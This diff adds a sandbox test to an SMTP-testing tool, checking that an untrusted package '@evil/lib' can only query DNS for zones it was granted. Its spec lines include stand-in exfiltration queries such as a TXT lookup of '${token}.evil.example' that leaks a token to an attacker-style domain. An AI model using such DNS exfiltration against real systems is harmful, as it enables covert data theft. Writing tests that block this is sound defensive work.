@@ -7,6 +7,7 @@ import { readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { fileURLToPath, pathToFileURL } from 'node:url';
 import { describe, expect, test } from 'vitest';
+import { startDnsServer } from '../../src/server/dns/server.ts';
 import { startPersona } from '../../src/server/index.ts';
 import { closing } from '../support/judge.ts';
 import { elementsNamed, parseXml } from '../support/xml.ts';
@@ -43,6 +44,58 @@ describe('S1: nothing of a package is run', () => {
     const ended = await cli(['run', '@evil/lib', ...persona], { cwd });
     expect(ended.code).toBe(code);
     expect(readdirSync(cwd)).not.toContain('trap');
+  });
+});
+
+describe('S10: it asks DNS for what was granted, and for the target', () => {
+  const zone = `
+granted.example MX 10 mail.elsewhere.example
+mail.elsewhere.example A 192.0.2.1
+granted.example TXT "v=spf1 include:spf.elsewhere.example -all"
+spf.elsewhere.example TXT "v=spf1 ip4:192.0.2.1 -all"
+secret.evil.example A 192.0.2.6
+notgranted.example A 192.0.2.6
+1.0.0.127.in-addr.arpa PTR localhost
+localhost A 127.0.0.1
+`;
+  const lines = [
+    'resolve a secret.evil.example as x',
+    'expect no dns txt ${token}.evil.example',
+    'expect mx evil.example',
+    'expect spf evil.example',
+    'expect dmarc evil.example',
+    'expect dkim key ${token} of evil.example',
+    'expect mta-sts evil.example',
+    'expect tls-rpt evil.example',
+    'expect reverse name of 192.0.2.1',
+    'expect dns ptr 192.0.2.1',
+    'expect dnsbl evil.example not listed 192.0.2.1',
+    'expect dns a notgranted.example',
+    'expect dns a granted.example.evil.example',
+    'expect mx granted.example',
+    'expect spf GRANTED.example.',
+    'expect banner 220\nexpect forward-confirmed name of ${target.ip}',
+    'expect dns a ${target.host}',
+  ];
+  const spec = ['id evil', ...lines.flatMap((line, i) => [`test "t" as t${String(i)} {`, line, '}'])].join('\n');
+
+  test('and for nothing else', async () => {
+    const dns = closing(await startDnsServer(zone));
+    const server = closing(await startPersona('postfix-3.9-hardened'));
+    const cwd = await folder({
+      ...files({ 'x.smtpspec': `${spec}\n` }),
+      'smtpspec.config.json': grants({ zones: ['granted.example'] }),
+    });
+    const at = ['--target', `localhost:${String(server.port)}`, '--resolver', `127.0.0.1:${String(dns.port)}`];
+    const ended = await cli(['run', '@evil/lib', ...at, '--rate', '1000', '--log', 'run.jsonl'], { cwd });
+    expect(ended.out).toContain('17 tests: 13 errored, 4 passed');
+    expect(ended.out).toContain('@evil/lib may not ask DNS for secret.evil.example: the zone was not granted to it');
+    expect(new Set(dns.asked.map((one) => one.split(' ')[1]))).toEqual(
+      new Set([
+        ...['granted.example', 'mail.elsewhere.example', 'spf.elsewhere.example'],
+        ...['1.0.0.127.in-addr.arpa', 'localhost'],
+      ]),
+    );
   });
 });
 
